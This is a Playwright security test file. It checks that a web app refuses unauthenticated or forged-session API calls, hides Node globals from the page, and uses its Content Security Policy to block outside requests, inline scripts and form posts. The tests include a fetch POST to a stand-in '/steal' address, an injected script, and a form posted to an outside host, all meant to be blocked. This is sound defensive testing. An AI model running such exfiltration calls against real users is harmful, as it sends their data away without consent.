/** Security: the page cannot reach Node APIs or navigate away; API calls without a session are refused. */
import { expect, login, shot, test } from './fixtures.ts';

test('API calls without a valid session are refused with 401', async ({ lab, request }) => {
  lab.device('site-01', 'site');
  const url = await lab.serve('site-01');
  for (const call of ['status.get', 'batches.list', 'batches.retry', 'device.setup']) {
    const res = await request.post(`${url}/api/app/call/${call}`, { data: {}, headers: { origin: url } });
    expect(res.status(), call).toBe(401);
    expect((await res.json()).error.code).toBe('SESSION_REQUIRED');
  }
  const forged = await request.post(`${url}/api/app/call/status.get`, { data: {}, headers: { origin: url, cookie: 'edc_session=AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA' } });
  expect(forged.status()).toBe(401);
  expect((await request.get(`${url}/api/app/events`)).status()).toBe(401);
  const wrong = await request.post(`${url}/api/app/login`, { data: { username: 'nobody', password: 'x'.repeat(12) }, headers: { origin: url } });
  expect(wrong.status()).toBe(401);
  expect((await wrong.json()).error.code).toBe('LOGIN_FAILED');
});

test('the page reaches no Node API, no other origin, and cannot post forms away', async ({ lab, page }, info) => {
  lab.device('site-01', 'site');
  lab.user('site-01', 'admin', 'admin');
  const url = await lab.serve('site-01');
  await login(page, url, 'admin');
  const globals = await page.evaluate(() => {
    const w = window as unknown as Record<string, unknown>;
    return { require: typeof w.require, process: typeof w.process, module: typeof w.module, Buffer: typeof w.Buffer, edc: typeof w.edc };
  });
  await shot(page, info, 'site-admin-status');
  expect(globals).toEqual({ require: 'undefined', process: 'undefined', module: 'undefined', Buffer: 'undefined', edc: 'undefined' });

  await page.evaluate(() => {
    const w = window as unknown as { __violations: string[] };
    w.__violations = [];
    document.addEventListener('securitypolicyviolation', (e) => w.__violations.push(e.effectiveDirective));
  });
  const fetched = await page.evaluate(() => fetch('http://127.0.0.2:9/steal', { method: 'POST', body: 'x' }).then(() => 'sent', () => 'blocked'));
  expect(fetched).toBe('blocked');
  await page.evaluate(() => {
    const s = document.createElement('script');
    s.textContent = 'window.__inline = 1';
    document.body.appendChild(s);
    const form = document.createElement('form');
    form.action = 'http://127.0.0.2:9/away';
    form.method = 'post';
    document.body.appendChild(form);
    form.submit();
  });
  await page.waitForTimeout(500);
  const violations = await page.evaluate(() => {
    const w = window as unknown as { __violations: string[]; __inline?: number };
    return { seen: w.__violations, inline: w.__inline ?? null };
  });
  expect(violations.seen).toEqual(expect.arrayContaining(['connect-src', 'form-action', 'script-src-elem']));
  expect(violations.inline).toBeNull();
  expect(page.url().startsWith(url)).toBe(true);

  // A session ended by logging out no longer works (a fresh page: the blocked form left this one mid-submit).
  const again = await page.context().newPage();
  await again.goto(url);
  await again.getByRole('button', { name: 'Log out' }).click();
  await expect(again.getByLabel('Username')).toBeVisible();
  const after = await again.evaluate(async () => (await fetch('/api/app/call/status.get', { method: 'POST', headers: { 'content-type': 'application/json' }, body: '{}' })).status);
  expect(after).toBe(401);
});
